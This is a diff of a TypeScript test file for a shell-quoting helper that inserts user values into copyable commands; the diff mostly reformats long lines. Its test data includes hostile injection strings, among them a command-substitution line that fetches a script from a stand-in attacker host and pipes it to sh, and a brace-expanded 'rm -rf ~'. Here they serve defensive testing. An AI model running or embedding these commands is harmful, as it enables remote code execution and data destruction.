@@ -6,7 +6,9 @@ import { execFileSync } from 'node:child_process';
 
 /** What bash makes of `printf '%s\n' <command words>`: one line per word. */
 function bashWords(command: string): string[] {
-  return execFileSync('bash', ['-c', `printf '%s\\n' ${command}`], { encoding: 'utf8', cwd: '/tmp' }).split('\n').slice(0, -1);
+  return execFileSync('bash', ['-c', `printf '%s\\n' ${command}`], { encoding: 'utf8', cwd: '/tmp' })
+    .split('\n')
+    .slice(0, -1);
 }
 
 describe('sanitizeValue', () => {
@@ -40,11 +42,30 @@ describe('shellKind and quoting', () => {
   });
   it('finds each placeholder context', () => {
     const t = `a __A__ '__B__' "__C__" \\'__D__ <<EOF\n__E__\nEOF\ncat <<'X'\n__F__\nX\n__G__`;
-    expect(placeholderContexts(t, 'posix')).toEqual(['plain', 'single', 'double', 'plain', 'heredoc', 'heredoc-literal', 'plain']);
+    expect(placeholderContexts(t, 'posix')).toEqual([
+      'plain',
+      'single',
+      'double',
+      'plain',
+      'heredoc',
+      'heredoc-literal',
+      'plain',
+    ]);
     expect(placeholderContexts(`x __A__ 'it''s __B__' "__C__"`, 'powershell')).toEqual(['plain', 'single', 'double']);
   });
   it('bash reads a quoted value back as the same single word, in every context', () => {
-    const hostile = ["~", "*", "$(curl -s evil.example/x.sh | sh)", "`id`", "it's", 'a"b', "{rm,-rf,~}", "!!", "a\\b", "x;y&z|w"];
+    const hostile = [
+      '~',
+      '*',
+      '$(curl -s evil.example/x.sh | sh)',
+      '`id`',
+      "it's",
+      'a"b',
+      '{rm,-rf,~}',
+      '!!',
+      'a\\b',
+      'x;y&z|w',
+    ];
     for (const v of hostile) {
       expect(bashWords(`pre${quoteValue(v, 'plain', 'posix')}post`)).toEqual([`pre${v}post`]);
       expect(bashWords(`"pre${quoteValue(v, 'double', 'posix')}post"`)).toEqual([`pre${v}post`]);
@@ -72,8 +93,14 @@ describe('planCopy', () => {
     expect(plan.ok && plan.text).toBe("docker build -t 'build{rm,-rf,~}' .");
   });
   it('refuses a value that fails its format check', () => {
-    const plan = planCopy('docker pull __IMAGE_NAME__', { values: { IMAGE_NAME: 'a b' }, problems: { IMAGE_NAME: 'Not a Docker image reference.' } });
-    expect(plan).toEqual({ ok: false, reason: 'Not copied: IMAGE_NAME is not in the expected format. Fix it under Your values.' });
+    const plan = planCopy('docker pull __IMAGE_NAME__', {
+      values: { IMAGE_NAME: 'a b' },
+      problems: { IMAGE_NAME: 'Not a Docker image reference.' },
+    });
+    expect(plan).toEqual({
+      ok: false,
+      reason: 'Not copied: IMAGE_NAME is not in the expected format. Fix it under Your values.',
+    });
     expect(copyStatus(plan)).toBe(plan.ok ? '' : plan.reason);
   });
   it('a problem with a variable the block does not use does not stop it', () => {
@@ -95,6 +122,8 @@ describe('copySpoken', () => {
     const { copySpoken } = await import('../../lib/variables/copy-plan');
     expect(copySpoken(planCopy('a __X__', { values: { X: 'b' } }))).toBe('Copied.');
     expect(copySpoken(planCopy('a __X__', { values: { X: '~' } }))).toBe('Copied. X put in quotes for the shell.');
-    expect(copySpoken(planCopy('a __X__ __Y__', { values: {} }), 'Copied all steps')).toBe('Copied all steps. Not filled in: X, Y.');
+    expect(copySpoken(planCopy('a __X__ __Y__', { values: {} }), 'Copied all steps')).toBe(
+      'Copied all steps. Not filled in: X, Y.',
+    );
   });
 });
